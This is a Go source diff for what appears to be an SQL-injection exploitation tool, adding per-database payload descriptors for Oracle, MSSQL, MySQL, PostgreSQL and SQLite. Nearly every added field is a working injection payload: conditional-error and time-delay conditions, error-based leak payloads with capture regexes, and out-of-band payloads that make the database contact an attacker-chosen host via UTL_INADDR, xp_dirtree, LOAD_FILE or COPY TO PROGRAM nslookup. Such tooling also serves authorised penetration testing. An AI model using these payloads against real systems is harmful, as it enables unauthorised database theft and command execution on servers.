@@ -1,36 +1,188 @@
 package constant
 
+// Database describes a SQL dialect. Every technique builds its payloads from these
+// fields, so supporting a new DBMS means filling in a new descriptor.
 type Database struct {
-	Name string
+	Name            string
 	VersionFunction string
-	Concatenation string
-	Comment []string
+	VersionTable    string // Table the version function must be selected from, if any
+	Comment         []string
+
+	// Syntax
+	Concatenation      string
+	ConcatFunction     string // Function used instead of the operator when set, e.g. MySQL's CONCAT
+	BackslashEscapes   bool   // String literals treat backslashes as escapes, so Quote doubles them
+	DualTable          string // Dummy table required by SELECT statements without a real table
+	CastFunction       string // Converts %s to a string
+	StackedQueries     bool   // Statements can be chained with ";"
+	IdentifierQuotes   string // Characters besides " that open a quoted identifier, [ is closed by ]
+	EscapeStrings      bool   // E'...' literals treat backslashes as escapes
+	DollarQuotes       bool   // Strings can be quoted as $$...$$ or $tag$...$tag$
+	NestedComments     bool   // Block comments nest
+	ExecutableComments bool   // The body of /*! ... */ comments runs as code
+
+	// Catalog and paging
+	Catalog       Catalog
+	Paging        PagingStyle
+	SystemSchemas []string // Built-in schemas skipped when dumping
+	// AggregateFunction joins the values %[1]s of all rows with the separator literal %[2]s
+	AggregateFunction string
+
+	// Enumeration of the server, the current user and the accounts
+	Environment Environment
+
+	// Blind retrieval
+	SubstringFunction string // SUBSTRING(expr, pos, len) equivalent
+	LengthFunction    string // Length of %s in characters, trailing spaces included
+	CodePointFunction string // Unicode code point of the single character %s
+	// TimeDelayPayload is wrapped in the injection boundary; %[1]s is the condition and %[2]d the delay in seconds
+	TimeDelayPayload string
+	// SleepStatement is a standalone statement that pauses for %d seconds, run as a stacked query
+	SleepStatement string
+	// ConditionalError is a condition that raises a DBMS error when %s is true
+	ConditionalError string
+
+	// Error-based retrieval
+	// ErrorPayload is a condition that leaks the value of %s inside a DBMS error message
+	ErrorPayload string
+	// ErrorRegex captures the leaked value from the error page
+	ErrorRegex string
+	// ErrorChunkSize limits how many characters a single error message can leak, 0 for no limit
+	ErrorChunkSize int
+
+	// Out-of-band retrieval
+	// HexFunction hex-encodes %s so values survive as DNS labels
+	HexFunction string
+	// HexUTF16 is set when HexFunction encodes strings cast with CastFunction as UTF-16LE rather than UTF-8
+	HexUTF16 bool
+	// OOBPayload makes the database resolve a host; %[1]s is the hex-encoded value and %[2]s the probe host
+	OOBPayload string
 }
 
 var (
 	ORACLE = Database{
-		Name: "Oracle",
-		VersionFunction: "version FROM v$instance",
-		Concatenation: "||",
-		Comment: []string{DOUBLE_DASH_COMMENT},
+		Name:              "Oracle",
+		VersionFunction:   "banner",
+		Concatenation:     "||",
+		Comment:           []string{DOUBLE_DASH_COMMENT},
+		VersionTable:      "v$version",
+		DualTable:         "dual",
+		Catalog:           ORACLE_CATALOG,
+		Paging:            PAGING_ROWNUM,
+		SystemSchemas:     []string{"SYS", "SYSTEM", "XDB", "CTXSYS", "MDSYS", "ORDSYS", "ORDDATA", "OUTLN", "DBSNMP", "APPQOSSYS", "WMSYS", "LBACSYS", "OLAPSYS", "GSMADMIN_INTERNAL", "DVSYS", "OJVMSYS", "AUDSYS"},
+		CastFunction:      "TO_CHAR(%s)",
+		AggregateFunction: "LISTAGG(%[1]s,%[2]s) WITHIN GROUP (ORDER BY %[1]s)",
+		Environment:       ORACLE_ENVIRONMENT,
+		SubstringFunction: "SUBSTR",
+		LengthFunction:    "LENGTH(%s)",
+		CodePointFunction: "ASCII(TO_NCHAR(%s))",
+		ConditionalError:  "(SELECT CASE WHEN (%s) THEN TO_CHAR(1/0) ELSE 'a' END FROM dual)='a'",
+		TimeDelayPayload:  "||(SELECT CASE WHEN (%[1]s) THEN 'a'||dbms_pipe.receive_message(('a'),%[2]d) ELSE NULL END FROM dual)",
+		ErrorPayload:      "1=CTXSYS.DRITHSX.SN(1,(%s))",
+		ErrorRegex:        `DRG-11701: thesaurus (.*?) does not exist`,
+		HexFunction:       "RAWTOHEX(%s)",
+		OOBPayload:        `||(SELECT UTL_INADDR.get_host_address('x'||(%[1]s)||'.%[2]s') FROM dual)`,
 	}
 	MSSQL = Database{
-		Name: "MSSQL",
-		VersionFunction: "@@version",
-		Concatenation: "+",
-		Comment: []string{DOUBLE_DASH_COMMENT},
+		Name:              "MSSQL",
+		VersionFunction:   "@@version",
+		Concatenation:     "+",
+		StackedQueries:    true,
+		IdentifierQuotes:  "[",
+		NestedComments:    true,
+		Comment:           []string{DOUBLE_DASH_COMMENT},
+		Catalog:           INFORMATION_SCHEMA_CATALOG,
+		Paging:            PAGING_OFFSET_FETCH,
+		SystemSchemas:     []string{"INFORMATION_SCHEMA", "sys"},
+		CastFunction:      "CAST(%s AS nvarchar(max))",
+		AggregateFunction: "STRING_AGG(%[1]s,%[2]s)",
+		Environment:       MSSQL_ENVIRONMENT,
+		SubstringFunction: "SUBSTRING",
+		LengthFunction:    "(LEN((%s)+'.')-1)",
+		CodePointFunction: "UNICODE(%s)",
+		ConditionalError:  "1=(SELECT CASE WHEN (%s) THEN 1/0 ELSE 1 END)",
+		TimeDelayPayload:  "; IF (%[1]s) WAITFOR DELAY '0:0:%[2]d'",
+		SleepStatement:    "WAITFOR DELAY '0:0:%d'",
+		ErrorPayload:      "1=CONVERT(int,(%s))",
+		ErrorRegex:        `Conversion failed when converting the n?varchar value '(.*?)' to data type int`,
+		HexFunction:       "CONVERT(varchar(max),CONVERT(varbinary(max),%s),2)",
+		HexUTF16:          true, // nvarchar holds UTF-16LE
+		OOBPayload:        `; DECLARE @h varchar(1024);SET @h='x'+(%[1]s);EXEC('master..xp_dirtree "\\'+@h+'.%[2]s\a"')`,
 	}
 	MYSQL = Database{
-		Name: "MySQL",
-		VersionFunction: "@@version",
-		Concatenation: " ",
-		Comment: []string{DOUBLE_DASH_COMMENT_WITH_SPACE, HASH_COMMENT},
+		Name:               "MySQL",
+		VersionFunction:    "@@version",
+		Concatenation:      " ",
+		ConcatFunction:     "CONCAT",
+		BackslashEscapes:   true,
+		StackedQueries:     true,
+		IdentifierQuotes:   "`",
+		ExecutableComments: true,
+		Comment:            []string{DOUBLE_DASH_COMMENT_WITH_SPACE, HASH_COMMENT},
+		Catalog:            INFORMATION_SCHEMA_CATALOG,
+		Paging:             PAGING_LIMIT_OFFSET,
+		SystemSchemas:      []string{"information_schema", "mysql", "performance_schema", "sys"},
+		CastFunction:       "CAST(%s AS char)",
+		AggregateFunction:  "GROUP_CONCAT(%[1]s SEPARATOR %[2]s)",
+		Environment:        MYSQL_ENVIRONMENT,
+		SubstringFunction:  "SUBSTRING",
+		LengthFunction:     "CHAR_LENGTH(%s)",
+		CodePointFunction:  "ORD(CONVERT(%s USING utf32))",
+		ConditionalError:   "'a'=(SELECT IF((%s),(SELECT table_name FROM information_schema.tables),'a'))",
+		TimeDelayPayload:   " AND (SELECT 1 FROM (SELECT IF((%[1]s),SLEEP(%[2]d),0))x)",
+		SleepStatement:     "SELECT SLEEP(%d)",
+		ErrorPayload:       "extractvalue(1,concat(0x7e,(%s),0x7e))",
+		ErrorRegex:         `XPATH syntax error: '~(.*)~'`, // Delimited by ~ as the value may contain quotes
+		ErrorChunkSize:     30,
+		HexFunction:        "HEX(%s)",
+		OOBPayload:         ` AND LOAD_FILE(CONCAT(0x5c5c,'x',(%[1]s),'.%[2]s',0x5c61))`,
 	}
 	POSTGRESQL = Database{
-		Name: "PostgreSQL",
-		VersionFunction: "version()",
-		Concatenation: "||",
-		Comment: []string{DOUBLE_DASH_COMMENT},
+		Name:              "PostgreSQL",
+		VersionFunction:   "version()",
+		Concatenation:     "||",
+		StackedQueries:    true,
+		EscapeStrings:     true,
+		DollarQuotes:      true,
+		NestedComments:    true,
+		Comment:           []string{DOUBLE_DASH_COMMENT},
+		Catalog:           INFORMATION_SCHEMA_CATALOG,
+		Paging:            PAGING_LIMIT_OFFSET,
+		SystemSchemas:     []string{"information_schema", "pg_catalog", "pg_toast"},
+		CastFunction:      "CAST(%s AS text)",
+		AggregateFunction: "string_agg(%[1]s,%[2]s)",
+		Environment:       POSTGRESQL_ENVIRONMENT,
+		SubstringFunction: "SUBSTRING",
+		LengthFunction:    "LENGTH(%s)",
+		CodePointFunction: "ASCII(%s)",
+		ConditionalError:  "1=(SELECT CASE WHEN (%s) THEN 1/(SELECT 0) ELSE 1 END)",
+		TimeDelayPayload:  "||(SELECT CASE WHEN (%[1]s) THEN pg_sleep(%[2]d) ELSE pg_sleep(0) END)",
+		SleepStatement:    "SELECT pg_sleep(%d)",
+		ErrorPayload:      "1=CAST('~'||(%s)||'~' AS int)",
+		ErrorRegex:        `invalid input syntax for (?:type )?integer: "~(.*?)~"`, // Delimited by ~ as the page may hold more quotes on the line
+		HexFunction:       `encode(convert_to(%s,'UTF8'),'hex')`,
+		OOBPayload:        `; DO $$BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''nslookup x'||(%[1]s)||'.%[2]s'''; END$$`,
+	}
+	// SQLITE has no sleep function, so delays come from hex-encoding a random blob once per second of delay.
+	// A single blob for the whole delay would exceed SQLITE_MAX_LENGTH from ten seconds on.
+	// Its errors never include data and it cannot reach the network, so error leaks and OOB are missing.
+	SQLITE = Database{
+		Name:              "SQLite",
+		VersionFunction:   "sqlite_version()",
+		Concatenation:     "||",
+		IdentifierQuotes:  "`[",
+		Comment:           []string{DOUBLE_DASH_COMMENT},
+		Catalog:           SQLITE_CATALOG,
+		Paging:            PAGING_LIMIT_OFFSET,
+		CastFunction:      "CAST(%s AS text)",
+		AggregateFunction: "group_concat(%[1]s,%[2]s)",
+		Environment:       SQLITE_ENVIRONMENT,
+		SubstringFunction: "substr",
+		LengthFunction:    "length(%s)",
+		CodePointFunction: "unicode(%s)",
+		ConditionalError:  "1=(SELECT CASE WHEN (%s) THEN abs(-9223372036854775808) ELSE 1 END)",
+		TimeDelayPayload:  "||(SELECT CASE WHEN (%[1]s) THEN (WITH RECURSIVE qzx_s(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM qzx_s WHERE n<%[2]d) SELECT count(LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(50000000))))) FROM qzx_s) ELSE '' END)",
+		HexFunction:       "hex(%s)",
 	}
 )
 
@@ -39,4 +191,5 @@ var Databases = []Database{
 	MSSQL,
 	MYSQL,
 	POSTGRESQL,
-}
\ No newline at end of file
+	SQLITE,
+}